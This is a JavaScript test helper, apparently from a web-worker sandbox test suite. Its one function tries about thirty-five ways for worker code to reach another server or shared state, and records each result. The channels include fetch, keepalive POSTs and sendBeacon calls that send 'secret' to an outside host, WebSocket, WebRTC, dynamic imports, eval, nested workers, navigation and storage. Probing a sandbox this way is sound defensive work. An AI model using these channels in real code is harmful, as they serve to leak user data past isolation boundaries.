// What somebody in a worker can try. It runs in the sandbox, where nothing may come of it, and in an ordinary
// worker, to show that something would. `elsewhere` is another server, `here` the site itself; `only` is the one
// attempt to make, "" stands for all that need no worker in the worker.
async function attack(elsewhere, here, only) {
  const done = {};
  const attempt = async (name, work) => {
    const patience = new Promise((resolve) => setTimeout(resolve, 1500, "no answer"));
    try {
      done[name] = String((await Promise.race([work(), patience])) ?? "done");
    } catch (error) {
      done[name] = `refused: ${error}`;
    }
  };
  const opened = (source) =>
    new Promise((resolve, reject) => {
      source.onopen = source.onload = source.onsuccess = () => resolve("opened");
      source.onerror = () => reject("error");
    });
  const worker = (text, options) =>
    new Promise((resolve, reject) => {
      const address = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
      const nested = new Worker(address, options);
      nested.onmessage = ({ data }) => resolve(data);
      nested.onerror = () => reject("error");
    });
  const sockets = elsewhere.replace("http", "ws");

  const attempts = {
    fetch: () => fetch(`${elsewhere}fetch`, { mode: "no-cors" }),
    "fetch here": () => fetch(`${here}leak-fetch`, { mode: "no-cors" }),
    "fetch outside": () => fetch("https://leak.invalid/", { mode: "no-cors" }),
    keepalive: () => fetch(`${elsewhere}keepalive`, { mode: "no-cors", keepalive: true, method: "POST", body: "secret" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${elsewhere}xhr`);
      request.send();
      return opened(request);
    },
    websocket: () => opened(new WebSocket(`${sockets}websocket`)),
    eventsource: () => opened(new EventSource(`${elsewhere}eventsource`)),
    webtransport: () => new WebTransport(elsewhere.replace("http", "https")).ready,
    beacon: () => navigator.sendBeacon(`${elsewhere}beacon`, "secret"),
    font: () => new FontFace("leak", `url(${elsewhere}font)`).load(),
    importScripts: () => importScripts(`${elsewhere}importScripts`),
    "importScripts here": () => importScripts(`${here}leak-script`),
    import: () => import(`${elsewhere}import`),
    "import here": () => import(`${here}leak-import`),
    "import data": () => import("data:text/javascript,export default 1"),
    eval: () => (0, eval)(`fetch("${elsewhere}eval", { mode: "no-cors" })`),
    function: () => new Function(`return fetch("${elsewhere}function", { mode: "no-cors" })`)(),
    timeout: () => setTimeout(`fetch("${elsewhere}timeout", { mode: "no-cors" })`),
    nested: () => worker(`fetch("${elsewhere}nested", { mode: "no-cors" }).then(() => postMessage("fetched"))`),
    "nested import": () => worker(`import("${elsewhere}nested-import").then(() => postMessage("imported"))`),
    "nested module": () => worker(`import "${elsewhere}nested-module";`, { type: "module" }),
    "nested data": () => opened(new Worker(`data:text/javascript,fetch("${elsewhere}nested-data")`)),
    "nested here": () => opened(new Worker(`${here}leak-worker`)),
    rtc: () => new RTCPeerConnection({ iceServers: [{ urls: elsewhere.replace("http", "stun") }] }),
    window: () => open(`${elsewhere}window`),
    top: () => (parent.location = top.location = `${elsewhere}top`),
    location: () => (self.location = `${elsewhere}location`),
    broadcast: () => new BroadcastChannel("kept").postMessage("hello"),
    storage: () => localStorage.getItem("kept"),
    directory: async () => (await navigator.storage.getDirectory()).name,
    database: () => opened(indexedDB.open("kept")),
    cache: async () => (await caches.open("kept")).put(`${here}kept`, new Response("changed")),
    serviceWorker: () => navigator.serviceWorker.register(`${here}sw.js`),
    clients: () => new SharedWorker(`${here}leak-shared`),
  };
  const chosen = Object.keys(attempts).filter((name) => (only ? name === only : !name.startsWith("nested")));
  await Promise.all(chosen.map((name) => attempt(name, attempts[name])));
  return JSON.stringify(done);
}
